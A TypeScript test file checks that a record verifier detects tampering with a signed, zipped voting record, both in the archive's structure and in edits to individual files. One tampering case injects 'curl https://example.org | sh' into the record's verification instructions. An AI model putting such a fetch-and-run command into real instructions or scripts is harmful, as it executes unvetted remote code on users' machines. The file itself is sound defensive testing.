/**
 * Someone without any key changes a published record on its way: its zip, or its files with the zip's checksums and the
 * manifest made to fit, as anyone can. The manifest's hash is a leaf of the signed ledger, so everything is found.
 */

import { zipSync } from 'fflate';
import { expect, test } from 'vitest';
import { concatBytes, utf8 } from '../../tally/encoding/bytes.ts';
import { playRecord, refutationsOf, verifyBytes } from '../support/record.ts';
import { rezip, textOf, unzip, zipOf } from '../support/record-zip.ts';

const record = await playRecord();
const contents = await unzip(record.bytes);
const entries = [...contents];
const last = <T>(list: readonly T[]): readonly T[] => list.slice(-1);

test.each<readonly [string, () => Promise<Uint8Array> | Uint8Array]>([
  ['a file more', () => zipOf(new Map([...entries, ['note.txt', utf8('hello')]]))],
  ['a file more at its head', () => zipOf(new Map([['note.txt', utf8('hello')], ...entries]))],
  ['a file less', () => zipOf(new Map(entries.filter(([name]) => name !== 'caps.json')))],
  ['its files in another order', () => zipOf(new Map([...last(entries), ...entries.slice(0, -1)]))],
  ['the archive last', () => zipOf(new Map([...entries.slice(1), ...entries.slice(0, 1)]))],
  [
    'a file under another name',
    () => zipOf(new Map(entries.map(([name, content]) => [name.replace('roll', 'Roll'), content]))),
  ],
  ['its files compressed', () => zipSync(Object.fromEntries(entries), { level: 6 })],
  [
    'the dates of today',
    () => zipSync(Object.fromEntries(entries), { level: 0, mtime: new Date('2026-11-23') }),
  ],
  ['a comment after its end', () => concatBytes(record.bytes, utf8('comment'))],
  ['something before its beginning', () => concatBytes(utf8('#!/bin/sh\n'), record.bytes)],
  ['its last byte cut off', () => record.bytes.slice(0, -1)],
])('a record with %s does not verify', async (_, change) => {
  const { findings } = await verifyBytes(await change());
  expect(findings).toMatchObject([{ check: '01.1', severity: 'error' }]);
});

const changes: readonly (readonly [name: string, what: string, change: (text: string) => string])[] = [
  ['setup.json', 'another signer', (text) => text.replace('计票人 1', '计票人 9')],
  ['caps.json', 'no cap proofs', (text) => text.replace(/"ballots":\[.*\]/, '"ballots":[]')],
  ['form.json', 'another project', (text) => text.replace('老旧小区', '新建小区')],
  ['rule-pack.json', 'a third place', (text) => text.replace('"seats":2', '"seats":3')],
  ['roll.json', 'one member more', (text) => text.replace('"present":5', '"present":6')],
  ['paper.json', 'a batch of paper ballots', (text) => text.replace('"batches":[]', `"batches":[${PAPER}]`)],
  ['report.json', 'another meeting', (text) => text.replace('"number":5', '"number":6')],
  ['certificate.json', 'another time', (text) => text.replace('T04:00:00Z', 'T05:00:00Z')],
  ['ledger/policy', 'another log', (text) => text.replace('qinghe', 'qingho')],
  ['ledger/actions.json', 'an action less', (text) => text.replace(/\{[^}]*"did":"opened"[^}]*\},/, '')],
  ['HOW-TO-VERIFY.txt', 'another command', (text) => text.replace('npm ci', 'curl https://example.org | sh')],
];

const marks = [1, 2, 3].map((no) => `{"itemVoid":0,"marks":[1,0,0],"no":${no}}`).join();
const column = `{"items":[${marks}],"pending":0,"returned":1,"source":"paper","voids":[]}`;
const PAPER = `{"batch":1,"first":{"column":${column},"teller":"1"},"resolution":null,"second":{"column":${column},"teller":"2"}}`;

test.each(changes)(
  '%s with %s is found by the manifest, and by the ledger if that is made to fit',
  async (name, _, change) => {
    const old = textOf(contents, name);
    const text = change(old);
    expect(text).not.toBe(old);
    expect(await refutationsOf(await rezip(contents, { [name]: text }, false))).toContain('01.2');
    const fitted = await refutationsOf(await rezip(contents, { [name]: text }, true));
    expect(fitted).not.toContain('01.2');
    expect(fitted.some((check) => check === '06.2' || check === '01.3')).toBe(true);
  },
);

test('every file the manifest covers has its attack here, but the archive, which has its own', () => {
  const covered = [...contents.keys()].slice(1, -3);
  expect(changes.map(([name]) => name)).toEqual(covered);
});
